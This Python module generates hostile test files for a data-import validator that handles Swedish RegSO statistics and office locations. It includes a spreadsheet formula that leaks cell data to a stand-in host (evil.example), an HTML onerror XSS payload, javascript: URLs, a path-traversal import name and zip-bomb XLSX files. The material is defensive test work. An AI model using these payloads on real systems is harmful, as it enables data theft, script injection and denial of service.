"""A corpus of hostile but mostly well-formed input files, each with its expected outcome.

``build(folder, regso_codes)`` writes every file and returns the cases. A case is either
*refused* (an InputError whose message names the file and, where it applies, the row and
column) or *accepted* (then ``check`` inspects the prepared import: text kept as text,
numbers as numbers). Files are generated here, so the corpus is reviewable and small on disk
(the "large" files are sparse).
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl

MB = 1024 * 1024
MD_IMAGE = "![x](http://evil.example/p.png)"
HTML_IMG = '<img src=x onerror="window.__xss=1">'
FORMULA = '=HYPERLINK("http://evil.example/leak?d="&A1,"klicka")'


@dataclass
class Case:
    id: str
    file: Path
    kind: str  # "indicators" or "offices"
    expect: str  # "refuse" or "accept"
    must: tuple[str, ...] = ()  # substrings of the refusal message (besides the file name)
    options: dict = field(default_factory=dict)
    check: Callable | None = None  # for accepted files: check(prepared_import) raises AssertionError
    display_name: str | None = None  # the name messages must use (default: the file's name)


def _csv(rows: list[list[str]], sep: str = ",") -> bytes:
    return "\n".join(sep.join(r) for r in rows).encode("utf-8")


def _xlsx_bytes(rows: list[list], sheets: int = 1) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    for i in range(1, sheets):
        wb.create_sheet(f"blad{i}")
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _rewrite_zip(data: bytes, member: str, edit: Callable[[bytes], bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            dst.writestr(info.filename, edit(body) if info.filename == member else body)
    return out.getvalue()


def _declare_huge(data: bytes) -> bytes:
    """Patch every central-directory entry to declare a 4 GB uncompressed size (a zip bomb's header)."""
    buf = bytearray(data)
    pos = buf.find(b"PK\x01\x02")
    while pos != -1:
        buf[pos + 24 : pos + 28] = (0xFFFF0000).to_bytes(4, "little")
        pos = buf.find(b"PK\x01\x02", pos + 4)
    return bytes(buf)


def _jsonstat(sizes: list[int], value, cats: dict | None = None) -> bytes:
    ids = [f"d{i}" for i in range(len(sizes))]
    dims = {d: {"category": {"index": [f"c{j}" for j in range(min(n, 3))]}} for d, n in zip(ids, sizes, strict=True)}
    doc = {"version": "2.0", "class": "dataset", "id": ids, "size": sizes, "dimension": cats or dims, "value": value}
    return json.dumps(doc).encode()


def _geojson(points: list[tuple[float, float, dict]]) -> bytes:
    feats = [
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [x, y]}, "properties": p} for x, y, p in points
    ]
    return json.dumps({"type": "FeatureCollection", "features": feats}).encode()


def build(folder: Path, codes: list[str]) -> list[Case]:
    """Write the corpus into ``folder``; ``codes`` are real RegSO 2025 codes (≥ 30)."""
    folder.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []

    def add(
        cid: str,
        fname: str,
        content: bytes | None,
        kind: str,
        expect: str,
        must=(),
        options=None,
        check=None,
        display=None,
    ):
        path = folder / cid / fname
        path.parent.mkdir(parents=True, exist_ok=True)
        if content is not None:
            path.write_bytes(content)
        cases.append(Case(cid, path, kind, expect, tuple(must), options or {}, check, display))
        return path

    def sparse(cid: str, fname: str, size: int, kind: str, must=()):
        path = add(cid, fname, None, kind, "refuse", must)
        with path.open("wb") as fh:
            fh.truncate(size)

    k = codes
    ok_rows = [["regsokod", "andel_pct"]] + [[c, f"{i % 50},5"] for i, c in enumerate(k[:10])]

    # --- CSV: encodings and structure -----------------------------------------------------------
    add("empty", "tom.csv", b"", "indicators", "refuse", ["empty"])
    add("header_only", "bara_rubrik.csv", b"regsokod,v\n", "indicators", "refuse", ["no data rows"])
    add("binary", "binar.csv", b"\x00\x01\x02PK" * 50, "indicators", "refuse", ["not a text file"])
    add("utf16", "utf16.csv", "regsokod;v\n0114R001;1\n".encode("utf-16"), "indicators", "refuse", ["not a text"])
    add("mojibake", "fel.csv", "regsokod;namn\n0114R001;Ã¥sa\n".encode(), "indicators", "refuse", ["wrong encoding"])
    add("unsupported", "program.exe", b"MZ\x90\x00", "indicators", "refuse", ["unsupported file type"])
    add("malformed", "trasig.csv", b'regsokod,v\n"0114R001,1\n0114R002,"2\n"x', "indicators", "refuse", [])
    add("dup_header", "dubbel.csv", _csv([["regsokod", "andel_pct", "andel_pct"], [k[0], "1", "2"]]),
        "indicators", "refuse", ["'andel_pct'", "used twice", "columns 2 and 3"])  # fmt: skip
    add("dup_header_space", "dubbel2.csv", _csv([["regsokod", "v", " v "], [k[0], "1", "2"]]),
        "indicators", "refuse", ["used twice"])  # fmt: skip
    add("no_key", "ingen_nyckel.csv", _csv([["a", "b"], ["x", "1"], ["y", "2"]]), "indicators", "refuse",
        ["no key column"])  # fmt: skip
    add("only_key", "bara_nyckel.csv", _csv([["regsokod", "namn"], [k[0], "a"], [k[1], "b"]]), "indicators",
        "refuse", ["no numeric value column"])  # fmt: skip
    add("unknown_keys", "okanda.csv", _csv([["regsokod", "v"], [k[0], "1"], ["9999R999", "2"]]), "indicators",
        "refuse", ["row 3: '9999R999'"], {"year": 2024})  # fmt: skip
    add("dup_keys", "dubbla_nycklar.csv", _csv([["regsokod", "v"], [k[0], "1"], [k[0], "2"]]), "indicators",
        "refuse", ["occurs more than once", "rows [2, 3]"], {"year": 2024})  # fmt: skip
    wide = [["regsokod"] + [f"v{i}" for i in range(1999)]] + [[c] + ["1"] * 1999 for c in k[:5]]
    add("2000_columns", "bred.csv", _csv(wide), "indicators", "refuse", ["too many columns (2000"])
    wide_ok = [["regsokod"] + [f"v{i}" for i in range(199)]] + [[c] + [str(i)] * 199 for i, c in enumerate(k[:30])]
    add("200_columns", "ganska_bred.csv", _csv(wide_ok), "indicators", "accept", options={"year": 2024},
        check=lambda imp: _assert(len(imp.columns) == 199 and imp.key_column == "regsokod"))  # fmt: skip
    add("too_many_rows", "lang.csv", b"regsokod,v\n" + b"0114R001,1\n" * 200_001, "indicators", "refuse",
        ["too many rows"])  # fmt: skip
    add("long_cell", "lang_cell.csv", _csv([["regsokod", "v", "namn"], [k[0], "1", "x" * 600]]), "indicators",
        "refuse", ["row 2", "'namn'", "600 characters"], {"year": 2024})  # fmt: skip
    add("long_header", "lang_rubrik.csv", _csv([["regsokod", "h" * 250], [k[0], "1"]]), "indicators", "refuse",
        ["column header", "too long (250"])  # fmt: skip
    sparse("csv_too_large", "stor.csv", 51 * MB, "indicators", ["too large", "at most 50 MB"])

    # --- numbers -----------------------------------------------------------------------------------
    def num_case(cid: str, values: list[str], expect: str, must=(), check=None, sep=","):
        rows = [["regsokod", "antal"]] + [[c, v] for c, v in zip(k, values, strict=False)]
        add(cid, f"{cid}.csv", _csv(rows, sep), "indicators", expect, must, {"year": 2024}, check)

    num_case("inf", ["1", "inf"], "refuse", ["row 3", "'antal'", "'inf'"])
    num_case("minus_inf", ["-inf", "1"], "refuse", ["row 2", "'-inf'"])
    num_case("infinity_word", ["Infinity", "1"], "refuse", ["row 2"])
    num_case("1e309", ["2", "1e309"], "refuse", ["row 3", "'1e309'", "finite"])
    num_case("hex", ["0x10", "1"], "refuse", ["row 2", "'0x10'"])
    num_case("english_thousands", ["1,234", "987", "2,500"], "refuse", ["row 2", "'1,234'", "ambiguous"],
             sep=";")  # fmt: skip
    num_case("english_thousands_decimal", ["1,234.5", "2"], "refuse", ["row 2", "thousands"], sep=";")
    num_case("several_commas", ["1,234,567", "2"], "refuse", ["row 2", "several commas"], sep=";")
    num_case("mixed_decimals", ["12,5", "12.5"], "refuse", ["row 3", "mixes decimal comma"], sep=";")
    num_case("swedish_numbers", ["12,5", "1 234", "0,125", "\u22123"], "accept",
             check=lambda imp: _assert(imp.table["antal_2024"].sort_values().tolist() == [-3.0, 0.125, 12.5, 1234.0]),
             sep=";")  # fmt: skip
    num_case("missing_markers", ["..", "", "3", "-"], "accept",
             check=lambda imp: _assert(imp.table["antal_2024"].notna().sum() == 1))  # fmt: skip
    add("percent_150", "pct.csv", _csv([["regsokod", "andel_pct"], [k[0], "150"]]), "indicators", "refuse",
        ["row 2", "'andel_pct'", "outside 0–100"], {"year": 2024})  # fmt: skip
    add("type_7", "typ.csv", _csv([["regsokod", "områdestyp"], [k[0], "7"]]), "indicators", "refuse",
        ["row 2", "områdestyp must be 1–5"], {"year": 2024})  # fmt: skip

    # --- years -------------------------------------------------------------------------------------
    def year_case(cid: str, year: str, must):
        add(cid, f"{cid}.csv", _csv([["regsokod", "år", "v"], [k[0], "2023", "1"], [k[1], year, "2"]]),
            "indicators", "refuse", must)  # fmt: skip

    year_case("year_30000", "30000", ["row 3", "'år'", "outside 1900–2100"])
    year_case("year_minus_5", "-5", ["row 3", "outside 1900–2100"])
    year_case("year_fraction", "2023.5", ["row 3", "'år'"])
    year_case("year_missing", "", ["row 3", "a year is needed"])

    # --- text that must stay text ------------------------------------------------------------------
    def text_kept(header: str):
        return lambda imp: _assert(
            imp.columns[0]["header"] == header and imp.columns[0]["slug"].replace("_", "").isalnum()
        )

    for cid, header in (("md_header", MD_IMAGE), ("html_header", HTML_IMG), ("formula_header", FORMULA)):
        rows = [["regsokod", header]] + [[c, str(i)] for i, c in enumerate(k[:5])]
        add(cid, f"{cid}.csv", _csv(rows, ";"), "indicators", "accept", options={"year": 2024}, check=text_kept(header))
    add("md_file_name", "x.csv", _csv(ok_rows, ";"), "indicators", "accept", options={"year": 2024},
        display=f"{MD_IMAGE}.csv",
        check=lambda imp: _assert(imp.file == f"{MD_IMAGE}.csv" and imp.id.replace("_", "").isalnum()))  # fmt: skip
    add("formula_cells_in_text_column", "text.csv", _csv([["regsokod", "v", "kommentar"], [k[0], "1", "=1+1"],
        [k[1], "2", "@SUM(A1)"]]), "indicators", "accept", options={"year": 2024},
        check=lambda imp: _assert("kommentar" in imp.ignored))  # fmt: skip

    # --- import names --------------------------------------------------------------------------------
    for cid, nm in (("name_traversal", "../../etc/x"), ("name_dots", ".."), ("name_spaces", "Arbetslöshet 2023"),
                    ("name_too_long", "a" * 41), ("name_markdown", "![x](y)")):  # fmt: skip
        add(cid, "ok.csv", _csv(ok_rows, ";"), "indicators", "refuse", ["allowed: 1–40 characters"],
            {"year": 2024, "import_id": nm})  # fmt: skip

    # --- JSON-stat ---------------------------------------------------------------------------------
    js_ok = {
        "version": "2.0",
        "class": "dataset",
        "id": ["Region", "Tid"],
        "size": [3, 1],
        "role": {"geo": ["Region"], "time": ["Tid"]},
        "dimension": {
            "Region": {"category": {"index": k[:3]}},
            "Tid": {"category": {"index": ["2023"]}},
        },
        "value": [1, 2, 3],
    }
    add("jsonstat_ok", "ok.json", json.dumps(js_ok).encode(), "indicators", "accept",
        check=lambda imp: _assert(imp.years == [2023] and len(imp.table) == 3))  # fmt: skip
    add("jsonstat_100m_cells", "stor.json", _jsonstat([10_000, 10_000, 1], [1]), "indicators", "refuse",
        ["100 000 000 cells"])  # fmt: skip
    add("jsonstat_huge_sizes", "enorm.json", _jsonstat([10**12, 10**12], [1]), "indicators", "refuse", ["cells"])
    sparse_out = {**js_ok, "value": {"0": 1, "7": 2}}
    add("jsonstat_sparse_outside", "gles.json", json.dumps(sparse_out).encode(), "indicators", "refuse",
        ["index '7' is outside the cube"])  # fmt: skip
    add("jsonstat_sparse_negative", "gles2.json", json.dumps({**js_ok, "value": {"-1": 1}}).encode(), "indicators",
        "refuse", ["outside the cube"])  # fmt: skip
    add("jsonstat_sparse_text_key", "gles3.json", json.dumps({**js_ok, "value": {"abc": 1}}).encode(), "indicators",
        "refuse", ["outside the cube"])  # fmt: skip
    add("jsonstat_11_dims", "dim.json", _jsonstat([1] * 11, [1]), "indicators", "refuse", ["11 dimensions"])
    add("jsonstat_size_0", "noll.json", _jsonstat([0, 1], []), "indicators", "refuse", ["size 0"])
    add("jsonstat_not_json", "inte.json", b"{not json", "indicators", "refuse", ["not valid JSON"])
    add("jsonstat_version", "v1.json", json.dumps({**js_ok, "version": "1.0"}).encode(), "indicators", "refuse",
        ["not a JSON-stat 2.0 dataset"])  # fmt: skip
    add("jsonstat_value_count", "antal.json", json.dumps({**js_ok, "value": [1]}).encode(), "indicators", "refuse",
        ["has 1 entries, expected 3"])  # fmt: skip
    add("jsonstat_categories", "kat.json", json.dumps({**js_ok, "size": [4, 1]}).encode(), "indicators", "refuse",
        ["3 categories but size says 4"])  # fmt: skip
    add("json_deep_nesting", "djup.json", b"[" * 100_000 + b"]" * 100_000, "indicators", "refuse",
        ["nested too deeply"])  # fmt: skip
    sparse("jsonstat_too_large", "stor2.json", 21 * MB, "indicators", ["too large", "at most 20 MB"])

    # --- XLSX --------------------------------------------------------------------------------------
    good_xlsx = _xlsx_bytes([["regsokod", "andel_pct"]] + [[c, i] for i, c in enumerate(k[:5])])
    add("xlsx_ok", "ok.xlsx", good_xlsx, "indicators", "accept", options={"year": 2024},
        check=lambda imp: _assert(len(imp.table) == 5))  # fmt: skip
    bomb = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good_xlsx)) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = body.replace(b"<sheetData>", b"<sheetData>" + b" " * (30 * MB))
            dst.writestr(info.filename, body)
    add("xlsx_zip_bomb_ratio", "bomb.xlsx", bomb.getvalue(), "indicators", "refuse", ["zip bomb", "sheet1.xml"])
    add("xlsx_declared_4gb", "bomb2.xlsx", _declare_huge(good_xlsx), "indicators", "refuse", ["unpacks to"])
    add("xlsx_60_sheets", "blad.xlsx", _xlsx_bytes([["regsokod", "v"], [k[0], 1]], sheets=60), "indicators",
        "refuse", ["60 sheets"])  # fmt: skip
    add("xlsx_million_rows", "rader.xlsx",
        _rewrite_zip(good_xlsx, "xl/worksheets/sheet1.xml", lambda b: b.replace(b'ref="A1:B6"', b'ref="A1:B1048576"')),
        "indicators", "refuse", ["1048576 rows"])  # fmt: skip
    add("xlsx_16k_columns", "kolumner.xlsx",
        _rewrite_zip(good_xlsx, "xl/worksheets/sheet1.xml", lambda b: b.replace(b'ref="A1:B6"', b'ref="A1:XFD6"')),
        "indicators", "refuse", ["16384 columns"])  # fmt: skip
    add("xlsx_not_zip", "text.xlsx", b"regsokod,v\n0114R001,1\n", "indicators", "refuse", ["not a readable .xlsx"])
    add("xlsx_dup_header", "dubbel.xlsx", _xlsx_bytes([["regsokod", "v", "v"], [k[0], 1, 2]]), "indicators",
        "refuse", ["used twice"])  # fmt: skip
    sparse("xlsx_too_large", "stor.xlsx", 21 * MB, "indicators", ["too large", "at most 20 MB"])

    # --- office lists ------------------------------------------------------------------------------
    office_rows = [["namn", "lat", "lon", "källa"], ["Kontor Malmö", "55.605", "13.003", "https://example.se/a"]]
    add("office_ok", "kontor.csv", _csv(office_rows), "offices", "accept",
        check=lambda imp: _assert(imp.table["source_url"].iloc[0] == "https://example.se/a"))  # fmt: skip
    for cid, url in (("office_javascript_url", "javascript:alert(1)"), ("office_data_url", "data:text/html,<b>x</b>")):
        rows = [["namn", "lat", "lon", "källa"], ["Kontor Lund", "55.705", "13.19", url]]
        add(cid, f"{cid}.csv", _csv(rows, ";"), "offices", "accept",
            check=lambda imp, url=url: _assert(imp.table["source_url"].iloc[0] == url))  # fmt: skip
    for cid, nm in (("office_md_name", MD_IMAGE), ("office_html_name", HTML_IMG), ("office_formula_name", FORMULA)):
        rows = [["namn", "lat", "lon"], [nm, "59.33", "18.06"]]
        add(cid, f"{cid}.csv", _csv(rows, ";"), "offices", "accept",
            check=lambda imp, nm=nm: _assert(imp.table["name"].iloc[0] == nm))  # fmt: skip
    add("office_long_name", "lang.csv", _csv([["namn", "lat", "lon"], ["K" * 600, "59.33", "18.06"]]), "offices",
        "refuse", ["row 2", "'namn'", "600 characters"])  # fmt: skip
    add("office_inf_coordinate", "inf.csv", _csv([["namn", "lat", "lon"], ["A", "inf", "18.06"]]), "offices",
        "refuse", ["row 2", "'lat'"])  # fmt: skip
    many = [["namn", "lat", "lon"]] + [[f"K{i}", "59.33", "18.06"] for i in range(20_001)]
    add("office_20001_rows", "manga.csv", _csv(many), "offices", "refuse", ["20001 offices"])
    pts = [(18.0 + (i % 100) * 0.001, 59.3 + (i // 100) * 0.001, {"namn": f"K{i}"}) for i in range(20_001)]
    add("geojson_20001_points", "manga.geojson", _geojson(pts), "offices", "refuse", ["20001 offices"])
    sparse("geojson_60mb", "stor.geojson", 60 * MB, "offices", ["too large", "at most 20 MB"])
    sparse("gpkg_60mb", "stor.gpkg", 60 * MB, "offices", ["too large", "at most 50 MB"])
    add("geojson_broken", "trasig.geojson", b'{"type": "FeatureCollection", "features": [', "offices", "refuse",
        ["not a readable"])  # fmt: skip
    add("geojson_as_json_60mb", "stor_geo.json", None, "offices", "refuse", ["too large"])
    with (folder / "geojson_as_json_60mb" / "stor_geo.json").open("wb") as fh:
        fh.write(b'{"type": "FeatureCollection", "features": []}')
        fh.truncate(60 * MB)
    gpkg = add(
        "gpkg_two_layers", "tva_lager.gpkg", None, "offices", "refuse", ["2 layers", "'kontor_af'", "'kontor_ssc'"]
    )
    _two_layer_gpkg(gpkg)
    return cases


def _two_layer_gpkg(path: Path) -> None:
    import geopandas as gpd
    from shapely.geometry import Point

    a = gpd.GeoDataFrame({"namn": ["A", "B"]}, geometry=[Point(18.06, 59.33), Point(13.0, 55.6)], crs=4326)
    a.to_file(path, layer="kontor_af", driver="GPKG")
    a.assign(namn=["C", "D"]).to_file(path, layer="kontor_ssc", driver="GPKG")


def _assert(ok: bool) -> None:
    assert ok
